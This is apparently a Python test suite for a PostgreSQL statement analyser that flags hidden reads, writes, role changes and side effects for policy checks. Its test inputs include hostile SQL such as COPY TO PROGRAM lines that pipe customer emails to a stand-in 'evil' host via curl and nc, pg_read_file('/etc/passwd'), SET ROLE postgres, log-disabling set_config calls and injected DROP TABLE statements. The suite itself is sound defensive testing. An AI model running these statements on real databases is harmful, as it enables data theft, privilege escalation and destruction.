"""Hostile SQL: ways to hide what a statement reads, writes or does, and the fact that gives
each away to policy.
"""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from custos.sql.analysis import analyze
from custos.sql.facts import ALL_COLUMNS, Analysis, PatternMatch, StatementFacts

CUSTOMERS = "crm.customers"


def only(sql: str, path: tuple[str, ...] = ("public",)) -> StatementFacts:
    analysis = analyze(sql, path)
    assert analysis.error is None, analysis.error
    assert len(analysis.statements) == 1, analysis.statements
    return analysis.statements[0]


def statements(sql: str, path: tuple[str, ...] = ("public",)) -> tuple[StatementFacts, ...]:
    analysis = analyze(sql, path)
    assert analysis.error is None, analysis.error
    return analysis.statements


def reads(facts: StatementFacts, relation: str) -> frozenset[str]:
    return facts.columns_read.get(relation, frozenset())


# -- spelling: comments, case, quoting, escapes ------------------------------------------------


@pytest.mark.parametrize(
    "sql",
    [
        "SeLeCt/**/email/*x*/FrOm crm.customers",
        "select\temail\nfrom\n  crm . customers",
        "SELECT /* /* nested */ comment */ email FROM crm.customers",
        "SELECT email -- trailing\nFROM crm.customers",
        'SELECT "email" FROM "crm"."customers"',
        "SELECT EMAIL FROM CRM.CUSTOMERS",
        'SELECT email FROM U&"cust\\006fmers"',
        'SELECT email FROM U&"crm".U&"\\0063ustomers"',
        "SELECT email FROM ONLY crm.customers",
        "SELECT email FROM mydb.crm.customers",
    ],
)
def test_spellings_of_one_read(sql: str) -> None:
    facts = only(sql, ("crm",))
    assert facts.relations_read == {CUSTOMERS}
    assert "email" in reads(facts, CUSTOMERS)


def test_quoted_names_stay_case_sensitive() -> None:
    assert only('SELECT * FROM "Customers"', ("crm",)).relations_read == {"crm.Customers"}
    assert only('SELECT * FROM "CRM"."CUSTOMERS"').relations_read == {"CRM.CUSTOMERS"}
    assert only('SELECT "Email" FROM crm.customers').columns_read == {CUSTOMERS: {"Email"}}


def test_a_dot_inside_a_quoted_name_cannot_pass_for_a_schema() -> None:
    facts = only('SELECT * FROM "crm.customers"', ("public",))
    assert facts.relations_read == {'public."crm.customers"'}
    assert CUSTOMERS not in facts.relations_read


def test_unicode_escaped_pattern() -> None:
    facts = only("SELECT id FROM crm.customers WHERE email LIKE U&'\\0025'")
    assert facts.pattern_matches == (PatternMatch(CUSTOMERS, "email", "~~", "%"),)


# -- statement boundaries --------------------------------------------------------------------


def test_multi_statement_string_with_trailing_comment() -> None:
    found = statements("SELECT 1; DROP TABLE crm.customers; -- nothing to see")
    assert [s.kind for s in found] == ["select", "ddl"]
    assert found[1].relations_written == {CUSTOMERS}


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT 1 /* ; DROP TABLE crm.customers */",
        "SELECT 1 -- ; DROP TABLE crm.customers",
        "SELECT '; DROP TABLE crm.customers'",
        "SELECT E'\\'; DROP TABLE crm.customers; --'",
        "SELECT $$; DELETE FROM crm.customers; $$",
        "SELECT $x$ DROP TABLE crm.customers $x$",
    ],
)
def test_hidden_keywords_are_data_not_statements(sql: str) -> None:
    facts = only(sql)
    assert facts.kind == "select"
    assert facts.relations_written == frozenset()
    assert facts.relations_read == frozenset()


def test_dollar_quoted_code_is_dynamic() -> None:
    facts = only("DO $body$ BEGIN EXECUTE 'DELETE FROM crm.customers'; END $body$")
    assert (facts.kind, facts.dynamic) == ("do", True)


def test_nul_truncation_is_refused() -> None:
    # PostgreSQL's parser stops at NUL: what follows must not slip past unseen.
    analysis = analyze("SELECT 1\x00; DROP TABLE crm.customers")
    assert analysis.error is not None
    assert analysis.statements == ()


# -- search_path tricks ----------------------------------------------------------------------


def test_set_search_path_applies_to_the_rest_of_the_string() -> None:
    first, second = statements("SET search_path TO crm; SELECT * FROM customers", ("public",))
    assert first.new_search_path == ("crm",)
    assert second.relations_read == {CUSTOMERS}
    assert reads(second, CUSTOMERS) == {ALL_COLUMNS}


def test_set_config_search_path_applies_to_the_rest_of_the_string() -> None:
    sql = (
        "SELECT PG_CATALOG.SET_CONFIG('SEARCH_PATH'::text, 'crm', FALSE); "
        "SELECT email FROM customers"
    )
    first, second = statements(sql)
    assert first.new_search_path == ("crm",)
    assert second.relations_read == {CUSTOMERS}


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT set_config('search_path', 'crm', false) FROM crm.t",
        "SELECT set_config('search_path', 'crm', false) WHERE random() < 0.5",
        "SELECT CASE WHEN true THEN set_config('search_path', 'crm', false) END",
        "WITH x AS (SELECT set_config('search_path', 'crm', false)) SELECT * FROM x",
        "SELECT set_config('search_path', current_setting('x'), false)",
        "SELECT set_config('search_path', 'a', false), set_config('search_path', 'b', false)",
        "SELECT * FROM set_config('search_path', 'crm', false)",
        "CREATE VIEW v AS SELECT set_config('search_path', 'crm', false)",
        "UPDATE pg_settings SET setting = 'crm' WHERE name = 'search_path'",
        "UPDATE pg_catalog.pg_settings SET setting = 'x'",
    ],
)
def test_search_path_changes_we_cannot_follow_are_dynamic(sql: str) -> None:
    facts = statements(sql)[0]
    assert facts.dynamic
    assert facts.new_search_path is None


def test_a_search_path_the_string_rolls_back_is_not_applied() -> None:
    *_, last = statements("SET search_path TO decoy; ROLLBACK; SELECT * FROM customers", ("crm",))
    assert last.relations_read == {CUSTOMERS}


def test_catalog_names_resolve_to_pg_catalog_whatever_the_path() -> None:
    for sql in ("SELECT * FROM pg_shadow", "SELECT * FROM PG_CATALOG.PG_SHADOW"):
        assert only(sql, ("crm", "pg_catalog")).relations_read == {"pg_catalog.pg_shadow"}


# -- CTEs and aliases ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sql", "kind"),
    [
        ("WITH x AS (DELETE FROM crm.customers RETURNING id) SELECT 1", "delete"),
        ("WITH x AS (UPDATE crm.customers SET email = NULL RETURNING id) SELECT 1", "update"),
        (
            "WITH x AS (INSERT INTO crm.customers (email) VALUES ('a') RETURNING id) SELECT 1",
            "insert",
        ),
        (
            "WITH a AS (SELECT 1), b AS (DELETE FROM crm.customers WHERE id = 1 RETURNING *) "
            "SELECT * FROM a",
            "delete",
        ),
        ("SELECT * FROM (WITH d AS (DELETE FROM crm.customers RETURNING *) SELECT 1) s", "delete"),
        ("EXPLAIN ANALYZE WITH d AS (DELETE FROM crm.customers RETURNING *) SELECT 1", "delete"),
    ],
)
def test_cte_wrapped_writes(sql: str, kind: str) -> None:
    facts = only(sql)
    assert facts.kind == kind
    assert kind in facts.kinds
    assert CUSTOMERS in facts.relations_written


def test_a_cte_shadowing_a_table_reads_no_real_relation() -> None:
    facts = only("WITH customers AS (SELECT 1) SELECT * FROM customers", ("crm",))
    assert facts.relations_read == frozenset()
    assert facts.columns_read == {}


def test_a_cte_cannot_hide_the_real_table_it_reads() -> None:
    facts = only("WITH customers AS (SELECT * FROM customers) SELECT * FROM customers", ("crm",))
    assert facts.relations_read == {CUSTOMERS}
    assert reads(facts, CUSTOMERS) == {ALL_COLUMNS}


def test_an_alias_named_like_a_table_reads_the_aliased_table() -> None:
    facts = only("SELECT customers.email FROM crm.newsletter customers")
    assert facts.relations_read == {"crm.newsletter"}
    assert CUSTOMERS not in facts.columns_read


def test_a_subquery_on_another_table_cannot_launder_an_outer_column() -> None:
    # `email` is resolved by PostgreSQL to the outer table when crm.tiny has no such column.
    facts = only("SELECT (SELECT email FROM crm.tiny LIMIT 1) FROM crm.customers")
    assert "email" in reads(facts, CUSTOMERS)
    assert (CUSTOMERS, "email") in facts.output_columns[0].sources


def test_renaming_through_a_cte_keeps_the_lineage() -> None:
    facts = only(
        "WITH x(a) AS (SELECT email FROM crm.customers) SELECT y.b FROM (SELECT a AS b FROM x) y "
        "WHERE y.b ILIKE '%@gmail.com'"
    )
    assert facts.pattern_matches == (PatternMatch(CUSTOMERS, "email", "~~*", "%@gmail.com"),)
    assert facts.output_columns[0].sources == {(CUSTOMERS, "email")}


# -- whole rows ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT c FROM crm.customers c",
        "SELECT customers FROM crm.customers",
        "SELECT row_to_json(c) FROM crm.customers c",
        "SELECT to_jsonb(c.*) FROM crm.customers c",
        "SELECT (c).email FROM crm.customers c",
        "SELECT j FROM crm.customers c, to_jsonb(c) j",
        "SELECT c::text FROM crm.customers c",
        "SELECT * FROM crm.customers",
        "TABLE crm.customers",
        "SELECT x.* FROM (SELECT * FROM crm.customers) x",
        "COPY crm.customers TO STDOUT",
        "DELETE FROM crm.customers WHERE id = 1 RETURNING *",
    ],
)
def test_whole_row_reads_are_all_columns(sql: str) -> None:
    assert ALL_COLUMNS in reads(only(sql), CUSTOMERS)


def test_whole_row_through_a_function_keeps_its_lineage() -> None:
    facts = only("SELECT j.value FROM crm.customers c, jsonb_each(to_jsonb(c)) j")
    assert (CUSTOMERS, ALL_COLUMNS) in facts.output_columns[0].sources


# -- exporting data --------------------------------------------------------------------------


def test_select_into_creates_a_copy() -> None:
    facts = only("SELECT email INTO public.loot FROM crm.customers")
    assert facts.kind == "ddl"
    assert facts.kinds == {"ddl", "select"}
    assert facts.relations_written == {"public.loot"}
    assert reads(facts, CUSTOMERS) == {"email"}


def test_create_table_as_creates_a_copy() -> None:
    facts = only("CREATE TABLE loot AS SELECT email FROM crm.customers")
    assert (facts.kind, facts.relations_written) == ("ddl", {"public.loot"})
    assert reads(facts, CUSTOMERS) == {"email"}


def test_copy_query_to_stdout() -> None:
    facts = only("COPY (SELECT email FROM crm.customers) TO STDOUT")
    assert facts.kind == "copy_to"
    assert facts.copy_destination == "stdout"
    assert reads(facts, CUSTOMERS) == {"email"}


@pytest.mark.parametrize(
    ("sql", "destination"),
    [
        ("COPY crm.customers (email) TO PROGRAM 'curl -d @- http://evil'", "program"),
        ("COPY (SELECT email FROM crm.customers) TO PROGRAM 'nc evil 80'", "program"),
        ("COPY crm.customers TO '/tmp/loot.csv'", "file"),
        ("copy crm.customers from program 'id'", "program"),
    ],
)
def test_copy_to_program_or_file(sql: str, destination: str) -> None:
    assert only(sql).copy_destination == destination


# -- functions with side effects -------------------------------------------------------------


@pytest.mark.parametrize(
    ("sql", "function"),
    [
        ("SELECT pg_read_file('/etc/passwd')", "pg_read_file"),
        (
            "SELECT pg_catalog.pg_read_binary_file('global/pg_control')",
            "pg_catalog.pg_read_binary_file",
        ),
        ("SELECT PG_CATALOG.PG_READ_FILE('x')", "pg_catalog.pg_read_file"),
        ("SELECT \"pg_read_file\"('x')", "pg_read_file"),
        ("SELECT lo_export(lo_import('/etc/passwd'), '/tmp/x')", "lo_export"),
        ("SELECT lo_import('/etc/passwd')", "lo_import"),
        ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "pg_terminate_backend"),
        ("SELECT set_config('log_statement', 'none', false)", "set_config"),
        ("SELECT lower(pg_read_file('x'))", "pg_read_file"),
        ("SELECT 1 WHERE pg_sleep(10) IS NOT NULL", "pg_sleep"),
        ("SELECT * FROM crm.t ORDER BY pg_cancel_backend(1)", "pg_cancel_backend"),
        ("SELECT count(*) FILTER (WHERE pg_reload_conf()) FROM crm.t", "pg_reload_conf"),
        ("INSERT INTO crm.t VALUES (pg_read_file('x'))", "pg_read_file"),
        ("CALL crm.p(pg_read_file('x'))", "pg_read_file"),
        ("EXECUTE stmt(pg_read_file('x'))", "pg_read_file"),
        ("CREATE TABLE t (a text DEFAULT pg_read_file('x'))", "pg_read_file"),
        ("SELECT * FROM generate_series(1, 1) g, pg_ls_dir('.') d", "pg_ls_dir"),
    ],
)
def test_side_effect_functions_are_listed(sql: str, function: str) -> None:
    assert function in statements(sql)[0].functions


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT dblink('dbname=custos', 'SELECT email FROM crm.customers')",
        "SELECT * FROM ext.dblink('x', 'DELETE FROM crm.customers') AS t(a text)",
        "SELECT * FROM ROWS FROM (dblink('x', 'SELECT 1') AS (a int))",
        "SELECT query_to_xml('SELECT email FROM crm.customers', true, false, '')",
        "SELECT table_to_xml('crm.customers', true, false, '')",
        "SELECT * FROM ts_stat('SELECT vector FROM crm.docs')",
    ],
)
def test_sql_hidden_in_strings_is_dynamic(sql: str) -> None:
    assert only(sql).dynamic


# -- role changes ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "sql",
    [
        "SET ROLE postgres",
        "set role none",
        "SET SESSION ROLE admin",
        "SET LOCAL ROLE admin",
        "SET SESSION AUTHORIZATION postgres",
        "SET SESSION AUTHORIZATION DEFAULT",
        "RESET ROLE",
        "RESET ALL",
        "DISCARD ALL",
        "SELECT set_config('role', 'postgres', false)",
        "SELECT set_config('ROLE', 'postgres', true)",
        "SELECT set_config('session_authorization', 'postgres', false)",
        "PREPARE p AS SELECT set_config('role', 'x', false)",
    ],
)
def test_role_changes_are_flagged(sql: str) -> None:
    assert only(sql).sets_role


# -- EXPLAIN and prepared statements ---------------------------------------------------------


@pytest.mark.parametrize(
    "sql",
    [
        "EXPLAIN ANALYZE DELETE FROM crm.customers",
        "explain analyse delete from crm.customers",
        "EXPLAIN (ANALYZE) DELETE FROM crm.customers",
        "EXPLAIN (ANALYZE TRUE, FORMAT JSON) DELETE FROM crm.customers",
        "EXPLAIN (ANALYZE 'on') DELETE FROM crm.customers",
        "EXPLAIN (ANALYZE, ANALYZE false, ANALYZE) DELETE FROM crm.customers",
    ],
)
def test_explain_analyze_executes(sql: str) -> None:
    facts = only(sql)
    assert (facts.kind, facts.explain_only) == ("delete", False)
    assert facts.update_or_delete_without_where


@pytest.mark.parametrize(
    "sql",
    [
        "EXPLAIN DELETE FROM crm.customers",
        "EXPLAIN VERBOSE DELETE FROM crm.customers",
        "EXPLAIN (ANALYZE false) DELETE FROM crm.customers",
        "EXPLAIN (ANALYZE OFF, COSTS OFF) DELETE FROM crm.customers",
    ],
)
def test_plain_explain_does_not_execute(sql: str) -> None:
    facts = only(sql)
    assert (facts.kind, facts.explain_only) == ("delete", True)
    assert facts.relations_written == {CUSTOMERS}


def test_prepared_statement_carries_the_inner_facts() -> None:
    prepare, execute = statements("PREPARE p AS DELETE FROM crm.customers; EXECUTE p")
    assert (prepare.prepares, prepare.kind) == ("p", "delete")
    assert prepare.update_or_delete_without_where
    assert prepare.relations_written == {CUSTOMERS}
    assert (execute.executes, execute.kind) == ("p", "other")


def test_prepared_search_path_change_is_dynamic() -> None:
    facts = only("PREPARE p AS SELECT set_config('search_path', 'crm', false)")
    assert facts.dynamic
    assert facts.new_search_path is None


# -- UPDATE / DELETE of every row --------------------------------------------------------------


@pytest.mark.parametrize(
    "sql",
    [
        "UPDATE crm.customers SET email = NULL",
        "UPDATE crm.customers SET email = NULL WHERE 1 = 1",
        "UPDATE crm.customers SET email = NULL WHERE id = 5 OR 1 = 1",
        "UPDATE crm.customers SET email = NULL WHERE NOT false",
        "UPDATE crm.customers SET email = NULL WHERE 'x' IS NOT NULL",
        "UPDATE crm.customers SET email = NULL WHERE (SELECT true)",
        "UPDATE crm.customers SET email = NULL WHERE 2 > 1",
        "UPDATE crm.customers SET email = NULL WHERE 't'::boolean",
        "UPDATE crm.customers SET email = NULL WHERE 9007199254740993 <> 9007199254740992",
        "DELETE FROM crm.customers WHERE id IS NOT NULL OR true",
        "DELETE FROM crm.customers c USING crm.other o WHERE o.id = 1",
        "DELETE FROM crm.customers WHERE EXISTS (SELECT 1 FROM crm.customers x WHERE x.id = 1)",
        "WITH d AS (DELETE FROM crm.customers RETURNING 1) SELECT 1",
    ],
)
def test_every_row_writes_are_flagged(sql: str) -> None:
    assert only(sql).update_or_delete_without_where


# -- fail closed -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "sql",
    [
        "SELEC email FROM crm.customers",
        "SELECT email FROM crm.customers WHERE",
        "DELETE crm.customers",
        "SELECT 1; DROP TABLE crm.customers; SELEC",
        "SELECT $$unterminated",
    ],
)
def test_a_parse_error_fails_closed(sql: str) -> None:
    analysis = analyze(sql)
    assert analysis.error is not None
    assert analysis.statements == ()


def test_unknown_statements_are_kind_other() -> None:
    assert only("LOAD 'evil.so'").kind == "other"
    assert only("CHECKPOINT").kind == "other"


_SQL_WORDS = [
    "SELECT", "FROM", "WHERE", "DELETE", "UPDATE", "SET", "INSERT", "INTO", "VALUES", "WITH",
    "AS", "JOIN", "LATERAL", "ON", "USING", "RETURNING", "LIKE", "ILIKE", "SIMILAR", "TO", "COPY",
    "EXPLAIN", "ANALYZE", "PREPARE", "EXECUTE", "UNION", "ALL", "ORDER", "BY", "GROUP", "LIMIT",
    "EXISTS", "NOT", "AND", "OR", "NULL", "TRUE", "CASE", "WHEN", "THEN", "END", "RECURSIVE",
    "MERGE", "MATCHED", "TABLE", "ROLE", "search_path", "set_config", "crm.customers", "c", "t",
    "email", "c.email", "*", "c.*", "(", ")", ",", ";", "=", "'x'", "$1", "1", "~~", "::text",
    "ROWS", "FETCH", "FIRST", "ONLY", "DO", "$$", "CALL", "DECLARE", "CURSOR", "FOR", "DEFAULT",
]  # fmt: skip


def _never_raises(sql: str, path: tuple[str, ...]) -> Analysis:
    analysis = analyze(sql, path)
    assert isinstance(analysis, Analysis)
    assert (analysis.error is None) or analysis.statements == ()
    # The catch-all for unexpected tree shapes must stay unused: it would hide a walker bug.
    assert "could not be analysed" not in (analysis.error or "")
    return analysis


@settings(max_examples=400, deadline=None)
@given(st.text(), st.lists(st.text(min_size=1, max_size=8), max_size=3).map(tuple))
def test_analyze_never_raises_on_arbitrary_text(sql: str, path: tuple[str, ...]) -> None:
    _never_raises(sql, path)


@settings(max_examples=1500, deadline=None)
@given(st.lists(st.sampled_from(_SQL_WORDS), min_size=1, max_size=25).map(" ".join))
def test_analyze_never_raises_on_sql_like_text(sql: str) -> None:
    _never_raises(sql, ("crm",))


_TEMPLATES = [
    "SELECT {e} FROM crm.customers c WHERE {e}",
    "WITH x AS (SELECT {e} AS a FROM crm.customers c) SELECT a FROM x WHERE {e}",
    "UPDATE crm.customers c SET email = {e} WHERE {e}",
    "DELETE FROM crm.customers c WHERE {e} RETURNING {e}",
    "INSERT INTO crm.t (a) SELECT {e} FROM crm.customers c ON CONFLICT (a) DO UPDATE SET a = {e}",
]
_EXPRESSIONS = st.recursive(
    st.sampled_from(["c.email", "email", "c", "1", "$1", "'x'", "true", "NULL", "c.*"]),
    lambda inner: st.one_of(
        st.builds("({} LIKE {})".format, inner, inner),
        st.builds("({} OR {})".format, inner, inner),
        st.builds("NOT ({})".format, inner),
        st.builds("lower({})".format, inner),
        st.builds("(SELECT {} FROM crm.orders o LIMIT 1)".format, inner),
        st.builds("EXISTS (SELECT {} FROM crm.orders o)".format, inner),
        st.builds("({})::text".format, inner),
    ),
    max_leaves=6,
)


@settings(max_examples=300, deadline=None)
@given(st.sampled_from(_TEMPLATES), _EXPRESSIONS, _EXPRESSIONS)
def test_analyze_never_raises_on_generated_queries(template: str, first: str, second: str) -> None:
    sql = template.replace("{e}", first, 1).replace("{e}", second)
    analysis = _never_raises(sql, ("crm",))
    for facts in analysis.statements:
        assert facts.kind in facts.kinds
        assert set(facts.columns_read) <= facts.relations_read


def _facts_fields(facts: StatementFacts) -> dict[str, Any]:
    return {name: getattr(facts, name) for name in facts.__slots__}


def test_analysis_is_deterministic() -> None:
    sql = "WITH x AS (SELECT email FROM crm.customers) SELECT * FROM x WHERE email LIKE $1"
    assert _facts_fields(only(sql)) == _facts_fields(only(sql))
